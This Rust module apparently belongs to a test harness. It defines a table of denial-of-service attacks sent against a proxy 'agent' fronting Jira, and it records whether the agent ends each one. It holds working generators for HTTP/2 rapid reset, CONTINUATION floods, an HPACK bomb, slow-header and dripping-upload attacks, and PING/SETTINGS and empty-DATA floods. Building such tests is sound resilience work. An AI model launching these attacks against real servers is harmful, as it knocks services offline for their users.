//! The attacks: what each sends, and whether the agent must end it.

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, field, frame,
    head, opening, stream,
};
use std::{net::SocketAddr, sync::Arc, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpSocket,
    task::JoinSet,
    time::timeout,
};

/// One kind of attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Number of simultaneous connections.
    connections: usize,
    /// What each of them sends.
    sends: fn() -> Vec<Vec<u8>>,
    /// Bytes sent repeatedly afterwards, and the pause between.
    drips: Option<(&'static [u8], Duration)>,
    /// Whether the connections read answers.
    reads: bool,
    /// The agent must end it while the peer keeps the connection open.
    pub(crate) ends_by_itself: bool,
}

/// The connections of an attack; they end when it is dropped.
pub(crate) struct OpenAttack {
    _connections: JoinSet<()>,
}

impl Attack {
    /// Opens the connections and sends as much as they accept within seconds.
    pub(crate) async fn launch(&self, addr: SocketAddr) -> OpenAttack {
        let mut connections = JoinSet::new();
        let (sent, mut all_sent) = tokio::sync::mpsc::channel(self.connections);
        let pieces = Arc::new((self.sends)());
        for _ in 0..self.connections {
            let (pieces, sent) = (Arc::clone(&pieces), sent.clone());
            let (drips, reads) = (self.drips, self.reads);
            connections.spawn(async move {
                let socket = TcpSocket::new_v4().unwrap();
                if !reads {
                    // A small buffer, so that unread bytes stay in the tunnel.
                    let _ = socket.set_recv_buffer_size(4096);
                }
                let Ok(mut stream) = socket.connect(addr).await else {
                    drop(sent);
                    return;
                };
                let (mut read, mut write) = stream.split();
                let reading = async {
                    let mut buffer = vec![0; 16 << 10];
                    while reads && matches!(read.read(&mut buffer).await, Ok(1..)) {}
                    std::future::pending::<()>().await;
                };
                let writing = async {
                    for piece in &*pieces {
                        // Do not wait for what the agent does not accept.
                        if !matches!(timeout(PATIENCE, write.write_all(piece)).await, Ok(Ok(()))) {
                            break;
                        }
                    }
                    drop(sent);
                    while let Some((drip, pause)) = drips {
                        tokio::time::sleep(pause).await;
                        if write.write_all(drip).await.is_err() {
                            break;
                        }
                    }
                    std::future::pending::<()>().await;
                };
                tokio::join!(reading, writing);
            });
        }
        drop(sent);
        let _: Option<()> = all_sent.recv().await;
        OpenAttack {
            _connections: connections,
        }
    }
}

/// Longer than the agent needs for a megabyte, and than it blocks a channel.
const PATIENCE: Duration = Duration::from_secs(3);

pub(crate) const TABLE: &[Attack] = &[
    Attack {
        name: "refused, behind shut HTTP/2 windows",
        connections: 300,
        sends: || {
            let requests = (0..127).map(|n| get(n, "/nope"));
            vec![opening(0), requests.collect::<Vec<_>>().concat()]
        },
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "the same with windows of ten bytes",
        connections: 100,
        sends: || {
            let requests = (0..127).map(|n| get(n, "/nope"));
            vec![opening(10), requests.collect::<Vec<_>>().concat()]
        },
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "allowed, behind shut HTTP/2 windows",
        // Fewer than `max_concurrent`: beyond that, honest requests are refused too, until the stall limit.
        connections: 2,
        sends: || {
            let requests = (0..100).map(|n| get(n, "/secure/attachment/200000/x"));
            vec![opening(0), requests.collect::<Vec<_>>().concat()]
        },
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "pipelined behind an answer that is not read",
        connections: 8,
        sends: || {
            let get = b"GET /secure/attachment/8000000/x HTTP/1.1\r\nHost: x\r\n\r\n";
            let mut pieces = vec![get.to_vec()];
            pieces.extend((0..54).map(|_| vec![b'z'; 1 << 20]));
            pieces
        },
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "empty lines",
        connections: 200,
        sends: || vec![b"\r\n".to_vec()],
        drips: Some((b"\r\n", Duration::from_millis(500))),
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "slow heads",
        connections: 400,
        sends: || {
            let mut head = b"GET /rest/api/2/issue/A-1 HTTP/1.1\r\nHost: x\r\nX-A: ".to_vec();
            head.extend([b'a'; 30 << 10]);
            vec![head]
        },
        drips: Some((b"a", Duration::from_millis(500))),
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "refused requests, pipelined and not read",
        connections: 50,
        sends: || vec![b"GET /nope HTTP/1.1\r\nHost: x\r\n\r\n".repeat(20_000)],
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "answers without end, not read",
        connections: 64,
        sends: || vec![b"GET /secure/attachment/9000000000/x HTTP/1.1\r\nHost: x\r\n\r\n".to_vec()],
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "dripping uploads on all connections to Jira",
        connections: 64,
        sends: || {
            let head = "POST /rest/api/2/issue/A-1/attachments HTTP/1.1\r\nHost: x\r\n\
                 X-Atlassian-Token: no-check\r\nContent-Type: multipart/form-data; boundary=x\r\n\
                 Content-Length: 1000000\r\n\r\n";
            vec![head.as_bytes().to_vec()]
        },
        drips: Some((b"a", Duration::from_millis(500))),
        reads: true,
        ends_by_itself: true,
    },
    Attack {
        name: "CONTINUATION without end",
        connections: 10,
        sends: || {
            let mut bytes = opening(65_535);
            bytes.extend(frame(HEADERS, END_STREAM, 1, &head("GET", "/nope")));
            let more = field("x-a", &"a".repeat(100)).repeat(100);
            bytes.extend(frame(CONTINUATION, 0, 1, &more).repeat(100));
            vec![bytes]
        },
        ..QUIET
    },
    Attack {
        name: "rapid reset",
        connections: 4,
        sends: || {
            let mut bytes = opening(65_535);
            for n in 0..20_000 {
                bytes.extend(get(n, "/rest/api/2/issue/A-1"));
                bytes.extend(frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8]));
            }
            vec![bytes]
        },
        reads: true,
        ..QUIET
    },
    Attack {
        name: "HPACK bomb",
        connections: 10,
        sends: || {
            // One large field in the table, then one byte for each repetition of it.
            let mut first = head("GET", "/nope");
            first.extend([0x40, 3]);
            first.extend(b"x-a");
            first.extend([0x7f, 0xa1, 0x1e]);
            first.extend([b'a'; 4000]);
            let mut bytes = opening(65_535);
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &first));
            for n in 1..100 {
                let mut bomb = head("GET", "/nope");
                bomb.extend([0xbe; 8000]);
                bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &bomb));
            }
            vec![bytes]
        },
        ..QUIET
    },
    Attack {
        name: "PING and SETTINGS whose replies are not read",
        connections: 10,
        sends: || {
            let pair = [
                frame(PING, 0, 0, &[0; 8]),
                frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 9]),
            ];
            vec![opening(65_535), pair.concat().repeat(100_000)]
        },
        ends_by_itself: true,
        ..QUIET
    },
    Attack {
        name: "empty DATA",
        connections: 10,
        sends: || {
            let mut bytes = opening(65_535);
            bytes.extend(frame(
                HEADERS,
                END_HEADERS,
                1,
                &head("POST", "/rest/api/2/issue/A-1/comment"),
            ));
            bytes.extend(frame(DATA, 0, 1, &[]).repeat(100_000));
            vec![bytes]
        },
        ends_by_itself: true,
        ..QUIET
    },
];

/// Sends nothing, and reads nothing.
const QUIET: Attack = Attack {
    name: "",
    connections: 1,
    sends: Vec::new,
    drips: None,
    reads: false,
    ends_by_itself: false,
};

fn get(n: usize, path: &str) -> Vec<u8> {
    let flags = END_STREAM | END_HEADERS;
    frame(HEADERS, flags, stream(n), &head("GET", path))
}
